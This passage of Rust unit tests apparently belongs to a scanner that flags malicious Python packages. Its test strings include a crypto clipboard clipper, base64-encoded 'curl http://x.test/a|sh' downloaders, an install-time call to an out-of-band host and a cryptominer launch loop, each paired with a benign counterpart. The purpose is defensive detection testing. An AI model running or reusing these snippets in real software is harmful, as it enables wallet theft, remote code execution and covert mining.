        let list = "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import requests; requests.get(\"https://x.oast.fun\")'])\n";
        assert!(fires(list, "PY-NET-AT-INSTALL"));
        let version =
            "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', '--version'])\n";
        assert!(!fires(version, "PY-NET-AT-INSTALL"));
    }

    #[test]
    fn swapping_matched_addresses_for_a_hard_coded_one_is_a_clipper() {
        let swap = "import re\ndef fix(t):\n    return re.sub(r'0x[a-fA-F0-9]{40}', '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976', t)\n";
        assert!(fires(swap, "STEAL-CLIPPER"));
        let tidy = "import re\ndef fix(t):\n    return re.sub(r'\\s+', ' ', t)\n";
        assert!(!fires(tidy, "STEAL-CLIPPER"));
        // Clipboard read, tested against an address pattern, replaced: a clipper whose
        // addresses are placeholders or come from elsewhere.
        let clip = |pattern: &str| {
            format!(
                "import re, pyperclip\nMINE = 'BTC WALLET HERE'\ndef clip():\n    s = pyperclip.paste()\n    if re.match(r'{pattern}', s):\n        pyperclip.copy(MINE)\n"
            )
        };
        assert!(fires(
            &clip("^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$"),
            "STEAL-CLIPPER"
        ));
        assert!(!fires(&clip("^https?://"), "STEAL-CLIPPER"));
    }

    #[test]
    fn own_functions_shadow_builtins_of_that_name() {
        // A library's own `compile` is not the builtin: no code-execution finding.
        let src = "def compile(pattern, flags=0):\n    return pattern\n\n\
                   def match(p, s):\n    return compile(p + s).x\n";
        assert!(!fires(src, "PY-EXEC-DYNAMIC"));
        // A method named like the builtin does not shadow it at module level.
        let src =
            "class C:\n    def eval(self, x):\n        return x\n\nimport sys\neval(sys.argv[1])\n";
        assert!(fires(src, "PY-EXEC-DYNAMIC"));
    }

    #[test]
    fn decodes_layers_and_reports_inner_findings() {
        // exec(base64("import os;os.system('curl http://x.test/a|sh')"))
        let inner = "import os;os.system('curl http://x.test/a|sh')";
        use base64::Engine;
        let b = base64::engine::general_purpose::STANDARD.encode(inner);
        let s = run(&format!("import base64\nexec(base64.b64decode('{b}'))\n"));
        let r = rules(&s);
        assert!(r.contains(&"PY-EXEC-DECODED"));
        let dl = s
            .findings
            .iter()
            .find(|f| f.rule == "CMD-DOWNLOADER")
            .unwrap();
        assert_eq!(dl.layer, 1);
        assert_eq!(dl.line, 2);
        assert!(dl.message.contains("decoded layer 1"));
    }

    #[test]
    fn reversed_and_chr_strings_decode() {
        let s = run("exec('))1(tnirp'[::-1])\n");
        assert!(rules(&s).contains(&"PY-EXEC-DECODED"));
        let s = run("exec(''.join(chr(c) for c in [112,114,105,110,116,40,49,41]))\n");
        assert!(rules(&s).contains(&"PY-EXEC-DECODED"));
    }

    #[test]
    fn eval_of_literal_is_not_flagged() {
        let s = run("x = eval('1+1')\nexec(open('v.py').read())\n");
        let r = rules(&s);
        assert!(!r.iter().any(|x| x.starts_with("PY-EXEC")), "{r:?}");
    }

    #[test]
    fn cmdclass_methods_are_install_stage() {
        let s = run(
            "from setuptools.command.install import install\nimport os\nclass X(install):\n    def run(self):\n        os.system('ls')\n",
        );
        let f = s.findings.iter().find(|f| f.rule == "PY-CMD-EXEC").unwrap();
        assert_eq!(f.stage, Some(Stage::Install));
        let s = run("import os\ndef f():\n    os.system('ls')\n");
        let f = s.findings.iter().find(|f| f.rule == "PY-CMD-EXEC").unwrap();
        assert_eq!(f.stage, Some(Stage::Runtime));
        let s = run("import os\ndef f():\n    os.system('ls')\nf()\n");
        let f = s.findings.iter().find(|f| f.rule == "PY-CMD-EXEC").unwrap();
        assert_eq!(f.stage, Some(Stage::Install));
    }

    #[test]
    fn a_loop_over_harmless_builtin_names_is_not_evasion() {
        let src = |names: &str| {
            format!("import builtins\nfor n in '{names}'.split():\n    getattr(builtins, n)\n")
        };
        assert!(!rules(&run(&src("sum len min"))).contains(&"PY-EVASION-BUILTINS"));
        assert!(rules(&run(&src("sum exec min"))).contains(&"PY-EVASION-BUILTINS"));
        // A name from anywhere else stays a computed look-up.
        let s = run("import builtins, sys\ngetattr(builtins, sys.argv[1])\n");
        assert!(rules(&s).contains(&"PY-EVASION-BUILTINS"));
    }

    #[test]
    fn commands_read_the_assignment_that_reaches_them() {
        // Not static (`x` is unknown), so the command text is read part by part.
        let s = run(
            "import os\ncmd = 'ls ' + x\ncmd = 'curl http://x.test/a | sh ' + x\nos.system(cmd)\n",
        );
        let r = rules(&s);
        assert!(r.contains(&"CMD-STAGED-EXEC"), "{r:?}");
        let s = run(
            "import os\ncmd = 'curl http://x.test/a | sh ' + x\ncmd = 'ls ' + x\nos.system(cmd)\n",
        );
        let r = rules(&s);
        assert!(!r.contains(&"CMD-STAGED-EXEC"), "{r:?}");
    }

    #[test]
    fn f_string_commands_are_read_with_their_parts() {
        let wallet = "dero1qy25yfyzw00d5t0mt8pvtd9t4p7zp8x3zl06pwkhaj4zkuqhnmnv2qg";
        let src = format!(
            "import subprocess, random\nPOOL = 'pool.example.test:80'\nWALLET = '{wallet}'\n\
             def go():\n    name = random.choice(['a', 'b'])\n    \
             subprocess.Popen(['bash', '-c', f'while true; do /tmp/{{name}} -r {{POOL}} -w {{WALLET}}; done'])\n"
        );
        let s = run(&src);
        let r = rules(&s);
        assert!(r.contains(&"MINER"), "{r:?}");
        // The same line without the wallet is not a miner.
        let s = run(&src.replace("-w {WALLET}", ""));
        assert!(!rules(&s).contains(&"MINER"));
    }

    #[test]
    fn only_a_class_called_at_the_top_level_runs_its_methods() {
        let body = "import os\nclass Shell:\n    def go(self):\n        os.system('ls')\n";
        let stage = |tail: &str| {
            let s = run(&format!("{body}{tail}"));
            let f = s.findings.iter().find(|f| f.rule == "PY-CMD-EXEC").unwrap();
            f.stage
        };
        // Instantiated: its methods count as reached from the top level.
        assert_eq!(stage("Shell()\n"), Some(Stage::Install));
        assert_eq!(stage("Shell().go()\n"), Some(Stage::Install));
        // Only handed to a registry (`ABC.register(Shell)`): nothing runs.
        assert_eq!(stage("Base.register(Shell)\n"), Some(Stage::Runtime));
    }
    #[test]
    fn garbage_does_not_panic() {
        run("\u{0}\u{1}def (((( '''");
        run(&"(".repeat(5000));
        run(&format!("x = {}\n", vec!["chr(97)"; 3000].join("+")));
    }
}
